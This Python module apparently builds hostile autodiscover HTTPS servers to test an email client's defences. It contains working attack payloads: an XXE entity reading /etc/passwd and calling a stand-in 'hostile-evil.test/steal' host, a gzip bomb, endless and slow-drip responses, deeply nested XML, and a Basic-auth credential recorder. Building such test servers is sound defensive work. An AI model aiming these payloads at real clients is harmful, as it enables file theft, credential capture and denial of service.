"""Hostile HTTPS answers for autodiscover.<domain>, as ScriptServer scripts.

Each factory returns a script that (optionally) completes TLS and then misbehaves
after reading the request. `recorder` plays a host that must never receive a
credential: it asks for Basic sign-in so a client that would send one does.
"""

from __future__ import annotations

import ssl
import zlib
from collections.abc import Callable

from assistant.lab.hostile.server import Conn, Script

POX_PATH = "/autodiscover/autodiscover.xml"
BIG_BODY = 100 * 1024 * 1024
DRIP_SECONDS = 0.5  # between bytes: half the tests' 1 s timeout, so every byte renews it
_CHUNK = b"A" * 65536
_OUTER = "http://schemas.microsoft.com/exchange/autodiscover/responseschema/2006"
_OUTLOOK = "http://schemas.microsoft.com/exchange/autodiscover/outlook/responseschema/2006a"


def head(status: str, *headers: str, length: int | None = None) -> bytes:
    lines = [f"HTTP/1.1 {status}", "Server: Microsoft-IIS/10.0", *headers]
    if length is not None:
        lines.append(f"Content-Length: {length}")
    # UTF-8, not Latin-1: a hostile server sends a confusable host name as raw bytes.
    return ("\r\n".join(lines) + "\r\n\r\n").encode("utf-8")


def pox(inner: str) -> bytes:
    return (
        f'<?xml version="1.0" encoding="utf-8"?><Autodiscover xmlns="{_OUTER}">'
        f'<Response xmlns="{_OUTLOOK}">{inner}</Response></Autodiscover>'
    ).encode()


def tls_then(context: ssl.SSLContext | None, play: Callable[[Conn], None]) -> Script:
    def script(conn: Conn) -> None:
        if context is not None:
            conn.start_tls(context)
        play(conn)

    return script


def answer(context: ssl.SSLContext | None, head: bytes, body: bytes = b"") -> Script:
    """Read each request, send `head` + `body`, keep the connection for the next."""

    def play(conn: Conn) -> None:
        while True:
            conn.http_request()
            conn.send(head + body)

    return tls_then(context, play)


def xml(context: ssl.SSLContext, body: bytes, status: str = "200 OK") -> Script:
    return answer(context, head(status, "Content-Type: text/xml", length=len(body)), body)


def redirect(context: ssl.SSLContext | None, location: str) -> Script:
    return answer(context, head("302 Found", f"Location: {location}", length=0))


def recorder(context: ssl.SSLContext | None) -> Script:
    """A host that must not get a password: it asks for one (Basic) and keeps what comes."""
    return answer(
        context, head("401 Unauthorized", 'WWW-Authenticate: Basic realm="lab"', length=0)
    )


def streamed(context: ssl.SSLContext, *, chunked: bool) -> Script:
    """A 100 MB body (Content-Length), or a chunked body that never ends."""

    def play(conn: Conn) -> None:
        conn.http_request()
        if chunked:
            conn.send(head("200 OK", "Content-Type: text/xml", "Transfer-Encoding: chunked"))
            piece = b"%x\r\n" % len(_CHUNK) + _CHUNK + b"\r\n"
            conn.send(b"%x\r\n<?xml version='1.0'?><Autodiscover>\r\n" % 37)
            while True:
                conn.send(piece)
        conn.send(head("200 OK", "Content-Type: text/xml", length=BIG_BODY))
        sent = 0
        while sent < BIG_BODY:
            conn.send(_CHUNK)
            sent += len(_CHUNK)

    return tls_then(context, play)


def drip(context: ssl.SSLContext | None, reply: bytes, *, first_read: bool = True) -> Script:
    """`reply` one byte every DRIP_SECONDS (after reading the request when `first_read`)."""

    def play(conn: Conn) -> None:
        if first_read:
            conn.http_request()
        for byte in reply:
            conn.send(bytes([byte]))
            conn.sleep(DRIP_SECONDS)

    return tls_then(context, play)


def endless_interim(context: ssl.SSLContext) -> Script:
    """'102 Processing' interim responses, as fast as the client reads them, forever."""

    def play(conn: Conn) -> None:
        conn.http_request()
        while True:
            conn.send(b"HTTP/1.1 102 Processing\r\n\r\n" * 64)

    return tls_then(context, play)


def gzip_bomb_body(size: int = 256 * 1024 * 1024) -> bytes:
    """`size` bytes of zeros, gzip-compressed to about 0.1% of that."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)  # 31: gzip container
    block = bytes(1024 * 1024)
    out = [packer.compress(block) for _ in range(size // len(block))]
    out.append(packer.flush())
    return b"".join(out)


def external_entity() -> bytes:
    """XXE: an entity reading a local file, and one fetching a URL (lab-only names)."""
    return (
        '<?xml version="1.0" encoding="utf-8"?>\r\n<!DOCTYPE Autodiscover [\r\n'
        '  <!ENTITY file SYSTEM "file:///etc/passwd">\r\n'
        '  <!ENTITY web SYSTEM "http://xxe.hostile-evil.test/steal">\r\n]>\r\n'
        f'<Autodiscover xmlns="{_OUTER}"><Response xmlns="{_OUTLOOK}">'
        "<User><DisplayName>&file;&web;</DisplayName></User></Response></Autodiscover>"
    ).encode()


def deep_xml(depth: int = 100_000) -> bytes:
    return pox("<User>" + "<a>" * depth + "</a>" * depth + "</User>")


def bearer_challenge(count: int = 1000) -> str:
    params = ", ".join(f'p{i}="{"v" * 20}{i}"' for i in range(count))
    return f'WWW-Authenticate: Bearer realm="lab", {params}'
